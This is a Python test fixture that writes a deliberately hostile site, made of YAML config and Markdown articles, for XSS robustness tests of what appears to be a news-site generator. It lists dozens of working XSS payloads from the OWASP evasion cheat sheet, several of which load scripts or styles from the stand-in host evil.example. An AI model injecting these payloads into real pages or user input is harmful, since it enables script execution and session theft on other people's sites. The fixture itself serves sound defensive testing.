"""A dossier made of hostile input, for the XSS tests (tests/test_robustness.py, tests/browser/test_xss.py).

Payloads come from the OWASP XSS Filter Evasion Cheat Sheet (script and event-handler
injection, case and entity obfuscation, whitespace and control characters inside
``javascript:``, attribute and element breakouts, ``</script>`` inside JSON) plus the
Markdown forms of the same URLs (inline, angle-bracket, reference and autolinks, images).
They go everywhere a user's text reaches a page: article bodies, titles, outlets, authors,
quotes, entity names and aliases, hub titles, site title and description, labels.

Every payload that would run calls ``alert``/``console.log`` with ``XSS_MARKER`` or loads
something from ``EVIL_HOST``, so a browser test can tell whether anything ran or was fetched.
"""

from __future__ import annotations

from pathlib import Path

XSS_MARKER = "xss-ran"
EVIL_HOST = "evil.example"

# Strings that must show up as text, never as markup.
PAYLOADS: tuple[str, ...] = (
    f"<script>alert('{XSS_MARKER}')</script>",
    f"<IMG SRC=\"javascript:alert('{XSS_MARKER}');\">",
    f"<IMG SRC=JaVaScRiPt:alert('{XSS_MARKER}')>",
    f"<IMG SRC=`javascript:alert(\"{XSS_MARKER}\")`>",
    f"<IMG \"\"\"><SCRIPT>alert(\"{XSS_MARKER}\")</SCRIPT>\"\\>",
    f"<IMG SRC=# onmouseover=\"alert('{XSS_MARKER}')\">",
    f"<IMG SRC=/ onerror=\"console.log('{XSS_MARKER}')\"></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;"
    f"{XSS_MARKER}&#39;&#41;>",
    f"<IMG SRC=\"jav&#x09;ascript:alert('{XSS_MARKER}');\">",
    f"<IMG SRC=\" &#14;  javascript:alert('{XSS_MARKER}');\">",
    f"<SCRIPT/XSS SRC=\"http://{EVIL_HOST}/xss.js\"></SCRIPT>",
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"{XSS_MARKER}\")>",
    f"<<SCRIPT>alert(\"{XSS_MARKER}\");//\\<</SCRIPT>",
    f"<iframe src=http://{EVIL_HOST}/scriptlet.html <",
    f"</TITLE><SCRIPT>alert(\"{XSS_MARKER}\");</SCRIPT>",
    f"<svg/onload=alert('{XSS_MARKER}')>",
    f"\"><script>alert('{XSS_MARKER}')</script>",
    f"'--></style></script><script>alert('{XSS_MARKER}')</script>",
    f"</script><script>console.log('{XSS_MARKER}')</script><!--",
    f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('{XSS_MARKER}');\">",
    f"<base href=\"http://{EVIL_HOST}/\">",
    f"<style>@import 'http://{EVIL_HOST}/xss.css';</style>",
    f"<a href=\"javascript:alert('{XSS_MARKER}')\">klik</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{XSS_MARKER}')>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
)

# Markdown that would make a link or image out of a dangerous URL.
MARKDOWN_PAYLOADS: tuple[str, ...] = (
    f"[a](javascript:alert('{XSS_MARKER}'))",
    f"[b](JaVaScRiPt:alert('{XSS_MARKER}'))",
    f"[c](jav&#x09;ascript:alert('{XSS_MARKER}'))",
    f"[d](&#106;avascript:alert('{XSS_MARKER}'))",
    f"[e](<javascript:alert('{XSS_MARKER}')>)",
    f"[f](%20javascript:alert('{XSS_MARKER}'))",
    f"[g](vbscript:msgbox('{XSS_MARKER}'))",
    "[h](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLXJhbicpPC9zY3JpcHQ+)",
    f"[i](java\u0000script:alert('{XSS_MARKER}'))",
    f"[j](\u0001javascript:alert('{XSS_MARKER}'))",
    f"<javascript:alert('{XSS_MARKER}')>",
    f"<data:text/html,<script>alert('{XSS_MARKER}')</script>>",
    "[k][ref]",
    f"![l](javascript:alert('{XSS_MARKER}'))",
    f"![m](http://{EVIL_HOST}/pixel.png)",
    f"[n](https://ok.example \"t\\\" onmouseover=alert('{XSS_MARKER}')\")",
    f"[![o](http://{EVIL_HOST}/inner.png)](https://ok.example/)",
)
REFERENCE_DEFINITION = f"[ref]: javascript:alert('{XSS_MARKER}')"

SAFE_LINKS = ("https://ok.example/", "https://ok.example", f"http://{EVIL_HOST}/pixel.png")


def _quoted(text: str) -> str:
    """YAML double-quoted scalar of any text."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def site_yaml() -> str:
    return "\n".join([
        f"title: {_quoted('Dosir ' + PAYLOADS[0])}",
        f"description: {_quoted(PAYLOADS[18])}",
        "language: id",
        "base_url: https://example.test/xss/",
        "labels:",
        f"  search_placeholder: {_quoted(PAYLOADS[16])}",
        "event:",
        f"  name: {_quoted(PAYLOADS[5])}",
        "  start: 2024-03-14",
        "  location: Teluk Biru",
        "hubs:",
        "  - slug: pelabuhan",
        f"    title: {_quoted(PAYLOADS[15])}",
        f"    description: {_quoted(PAYLOADS[17])}",
        "    keywords: [pelabuhan]",
        "entities:",
        f"  - name: {_quoted(PAYLOADS[6] + ' Teluk Biru')}",
        "    type: place",
        "    aliases: [Teluk Biru]",
        f"    description: {_quoted(PAYLOADS[18])}",
        f"  - name: {_quoted('Siti ' + PAYLOADS[16])}",
        "    type: person",
        "    aliases: [Siti Rahmawati, Rahmawati]",
        f"  - name: {_quoted(PAYLOADS[2] + ' Pelindo')}",
        "    type: organization",
        "    aliases: [Pelindo]",
        "",
    ])


def body() -> str:
    paragraphs = [
        "Pelabuhan Teluk Biru dibuka pada Kamis (14/3/2024) oleh Siti Rahmawati dari Pelindo.",
        *(f"Paragraf {i}: {payload}" for i, payload in enumerate(PAYLOADS)),
        " ".join(MARKDOWN_PAYLOADS),
        f"\"Kami siap {PAYLOADS[0]} melayani kapal,\" ujar Rahmawati.",
        REFERENCE_DEFINITION,
    ]
    return "\n\n".join(paragraphs) + "\n"


def article(index: int, payload: str) -> str:
    return "\n".join([
        "---",
        f"title: {_quoted(f'Pelabuhan {index} ' + payload)}",
        f"outlet: {_quoted(PAYLOADS[(index + 1) % len(PAYLOADS)])}",
        f"author: {_quoted(PAYLOADS[(index + 2) % len(PAYLOADS)])}",
        f"comment: {_quoted(PAYLOADS[(index + 3) % len(PAYLOADS)])}",
        f"published: 2024-03-{10 + index % 10:02d}",
        "url: https://ok.example/berita?id=1&x='y'",
        "---",
        body(),
    ])


def write_site(root: Path) -> Path:
    """The hostile dossier: one article per payload (in its title), every payload in every body."""
    (root / "content").mkdir(parents=True)
    (root / "site.yaml").write_text(site_yaml(), encoding="utf-8")
    for index, payload in enumerate(PAYLOADS):
        (root / "content" / f"xss-{index:02d}.md").write_text(article(index, payload), encoding="utf-8")
    return root
